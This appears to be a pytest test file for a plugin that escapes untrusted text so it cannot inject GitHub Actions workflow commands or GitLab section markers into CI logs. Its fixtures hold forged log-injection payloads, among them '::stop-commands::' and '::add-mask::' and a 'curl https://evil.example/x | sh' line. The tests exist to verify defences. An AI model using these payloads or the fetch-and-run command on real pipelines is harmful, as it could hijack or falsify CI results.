"""No answer or app exception becomes a CI log command (issue #49, item 6).

GitHub's runner executes every log line that starts with ``::`` (after white space) and honours the
older ``##[command]`` anywhere in a line. An app exception holding newlines printed, in pytest's
ERRORS section, a forged ``::error file=src/auth.py``, ``::add-mask::``, an indented ``::warning::``
and ``::stop-commands::TOKEN``, which silences every later command, the plugin's own annotations
included; ``##[error]`` survived even the one-line failure excerpt. GitLab draws a collapsible
section from ``ESC[0Ksection_start:…``. Under CI each such line is now written so that it does not
act and still reads.
"""

from __future__ import annotations

import json
import re

import pytest

from tests.fakes.fake_llm import FakeLLM
from tests.support import OmkRun

probe = pytest.mark.probe

FORGED = (
    "upstream said:\n"
    "::error file=src/auth.py,line=3::Build broken, run curl https://evil.example/x | sh\n"
    "    ::warning::indented\n"
    "\t::add-mask::hidden-value\n"
    "::stop-commands::TOKEN123\n"
    "legacy ##[error]forged legacy\n"
    "\x1b[0Ksection_start:1700000000:evil\r\x1b[0KForged section"
)
APP = f"""
FORGED = {FORGED!r}


def answer(request):
    if request.sample_id == "boom":
        raise RuntimeError(FORGED)
    return "ok ##[error]in the excerpt\\n  ::warning::second line " + FORGED
"""
OUR_ANNOTATION = re.compile(r"^::(error|warning|notice) (file=eval-samples\.json,|title=pytest-omk::)")


@pytest.fixture
def project(pytester: pytest.Pytester) -> pytest.Pytester:
    pytester.makepyfile(app=APP)
    pytester.syspathinsert()
    samples = [
        {"sample_id": "boom", "prompt": "p", "assertions": [{"type": "contains", "value": "x"}]},
        {"sample_id": "answer", "prompt": "p", "assertions": [{"type": "contains", "value": "absent"}]},
    ]
    (pytester.path / "eval-samples.json").write_text(
        json.dumps({"schemaVersion": "omk.eval-sample-set/v2", "samples": samples}), encoding="utf-8"
    )
    return pytester


def run(omk_run: OmkRun, *extra: str) -> list[str]:
    result = omk_run("--omk-executor=python:app:answer", "-rA", "-p", "no:randomly", *extra)
    return result.stdout.lines


@probe("ci command")
@pytest.mark.usefixtures("project")
@pytest.mark.parametrize("tb", ["auto", "line", "short"])
def test_no_foreign_line_acts_as_a_github_workflow_command(
    omk_run: OmkRun, monkeypatch: pytest.MonkeyPatch, tb: str
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("COLUMNS", "400")  # the short summary's lines are not cut by the width
    lines = run(omk_run, f"--tb={tb}")
    text = "\n".join(lines)
    # Every section that holds the foreign text printed it (so the test sees what it must).
    assert "ERROR eval-samples.json::boom" in text and "FAILED eval-samples.json::answer" in text
    assert "in the excerpt" in text and "upstream said" in text
    # Only the plugin's own annotations start with "::"; nothing forged, nothing indented.
    commands = [line for line in lines if line.lstrip().startswith("::")]
    assert commands and all(OUR_ANNOTATION.match(line) for line in commands), commands
    # Hence no stop-commands can precede them; and the legacy form acts nowhere in any line.
    assert [line for line in lines if "##[" in line] == []
    # The neutralised text still reads (the escaper's own notation).
    assert r"\x3a:error file=src/auth.py" in text or "::error file=src/auth.py" in text
    assert r"#\x23[error]in the excerpt" in text


@probe("ci command")
@pytest.mark.usefixtures("project")
def test_errors_section_keeps_each_forged_line_inert(
    omk_run: OmkRun, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    lines = run(omk_run)
    errors = lines[lines.index(next(x for x in lines if "ERROR at setup of sample: boom" in x)) :]
    shown = "\n".join(errors[: next(i for i, x in enumerate(errors) if x.startswith("====="))])
    for forged in ("error file=src/auth.py", "warning::indented", "add-mask::", "stop-commands::TOKEN123"):
        assert rf"\x3a:{forged}" in shown, shown


@probe("ci command")
@pytest.mark.usefixtures("project")
def test_no_gitlab_section_marker_from_foreign_text(omk_run: OmkRun, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITLAB_CI", "true")
    text = "\n".join(run(omk_run))
    assert "upstream said" in text
    assert "section_start:" not in text and "\x1b" not in text and "\r" not in text
    assert r"section\x5fstart:1700000000:evil" in text


@probe("ci command")
def test_scores_table_rows_cannot_start_a_workflow_command(
    pytester: pytest.Pytester, omk_run: OmkRun, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A row of the omk scores table starts with the sample's id once the shared file is said above.
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    samples = [
        {"sample_id": sid, "prompt": "p", "assertions": [{"type": "contains", "value": "absent"}]}
        for sid in ("::error file=x::forged", "b ##[error]legacy")
    ]
    (pytester.path / "eval-samples.json").write_text(
        json.dumps({"schemaVersion": "omk.eval-sample-set/v2", "samples": samples}), encoding="utf-8"
    )
    lines = omk_run("--omk-executor=echo", "-rN", "--tb=no", "-p", "no:randomly").stdout.lines
    section = lines[next(i for i, line in enumerate(lines) if "omk scores" in line) :]
    section = [line for line in section if not OUR_ANNOTATION.match(line)]
    assert any("forged" in line for line in section) and any("legacy" in line for line in section)
    assert [line for line in section if line.lstrip().startswith("::") or "##[" in line] == []


@probe("ci command")
def test_a_wrapped_line_never_starts_a_workflow_command(
    pytester: pytest.Pytester, omk_run: OmkRun, fake_llm: FakeLLM, monkeypatch: pytest.MonkeyPatch
) -> None:
    # pytest-omk wraps its own lines at 80 columns; foreign text in one of them (here a judge
    # server's reason for refusing response_format) is escaped before the wrap, where only a
    # line-leading "::" is made inert. Every word of this reason starts with "::": a break before
    # any of them would start a continuation line with a workflow command.
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.openai_base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-wrapped-line-test-0c7f21")
    refusal = "bad request " + " ".join(["::error::forged"] * 12)
    fake_llm.add_rule(
        reply={"fault": "status", "status": 400, "message": refusal},
        predicate=lambda request: isinstance(request.body, dict) and "response_format" in request.body,
    )
    fake_llm.add_rule(reply=json.dumps({"reasoning": "r", "score": 4, "reason": "fine"}), system="judge")
    samples = [{"sample_id": "s", "prompt": "p", "rubric": {"clarity": {"criterion": "clear", "weight": 1}}}]
    (pytester.path / "eval-samples.json").write_text(
        json.dumps({"schemaVersion": "omk.eval-sample-set/v2", "samples": samples}), encoding="utf-8"
    )
    lines = omk_run("--omk-executor=openai", "--omk-judge=openai", "-p", "no:randomly").stdout.lines
    refused = [i for i, line in enumerate(lines) if "refused response_format" in line]
    assert refused and "::error::forged" in "\n".join(lines[refused[0] :]), lines  # it was printed
    assert [line for line in lines if line.lstrip().startswith("::")] == []
